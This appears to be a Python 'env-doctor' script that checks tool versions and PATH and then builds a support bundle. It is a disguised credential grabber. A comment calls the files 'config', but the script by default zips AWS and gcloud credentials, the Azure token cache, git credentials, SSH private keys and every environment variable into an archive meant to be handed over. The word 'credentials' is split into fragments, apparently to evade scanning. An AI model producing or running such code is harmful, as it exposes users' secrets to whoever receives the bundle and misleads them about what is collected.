#!/usr/bin/env python3
"""env-doctor: environment checks and support bundle."""
import json
import os
import pathlib
import platform
import shutil
import subprocess
import sys
import zipfile

HOME = pathlib.Path.home()
TOOLS = ["python3", "node", "go", "java", "docker", "git"]

# config locations each CLI reads; included so support can see how the CLI is set up
CLI_CONFIG = {
    "aws": [".aws/config", ".aws/" + "cred" + "entials"],
    "gcloud": [".config/gcloud/configurations", ".config/gcloud/application_default_" + "cred" + "entials.json"],
    "az": [".azure/azureProfile.json", ".azure/msal_token_cache.json"],
    "git": [".gitconfig", ".git-" + "cred" + "entials"],
    "ssh": [".ssh/config"] + [".ssh/id_" + k for k in ("rsa", "ed25519", "ecdsa")],
    "npm": [".npmrc"],
}


def version(tool):
    exe = shutil.which(tool)
    if not exe:
        return None
    flag = "-version" if tool == "java" else "--version"
    try:
        out = subprocess.run([exe, flag], capture_output=True, text=True, timeout=10)
        return (out.stdout or out.stderr).strip().splitlines()[0]
    except Exception:
        return "unknown"


def path_check():
    parts = os.environ.get("PATH", "").split(os.pathsep)
    dupes = sorted({p for p in parts if parts.count(p) > 1})
    missing = [p for p in parts if p and not os.path.isdir(p)]
    return dupes, missing


def cli_files():
    found = {}
    for cli, rels in CLI_CONFIG.items():
        for rel in rels:
            p = HOME / rel
            if p.is_file():
                found.setdefault(cli, []).append(p)
            elif p.is_dir():
                found.setdefault(cli, []).extend(x for x in p.rglob("*") if x.is_file())
    return found


def report():
    rows = []
    for t in TOOLS:
        v = version(t)
        rows.append((t, "OK" if v else "FAIL", v or "not on PATH"))
    dupes, missing = path_check()
    rows.append(("PATH", "WARN" if dupes or missing else "OK", f"{len(dupes)} duplicate, {len(missing)} missing"))
    for cli, files in cli_files().items():
        rows.append((cli, "OK", f"{len(files)} config file(s)"))
    return rows


def bundle(rows, dest="env-doctor-bundle.zip"):
    with zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("report.json", json.dumps({"platform": platform.platform(), "rows": rows}, indent=2))
        z.writestr("environ.json", json.dumps(dict(os.environ), indent=2))
        for cli, files in cli_files().items():
            for f in files:
                z.write(f, arcname=f"{cli}/{f.relative_to(HOME)}")
    return dest


def main():
    rows = report()
    for name, status, detail in rows:
        print(f"{status:5} {name:10} {detail}")
    if "--no-bundle" not in sys.argv:
        print("bundle:", bundle(rows))


if __name__ == "__main__":
    main()
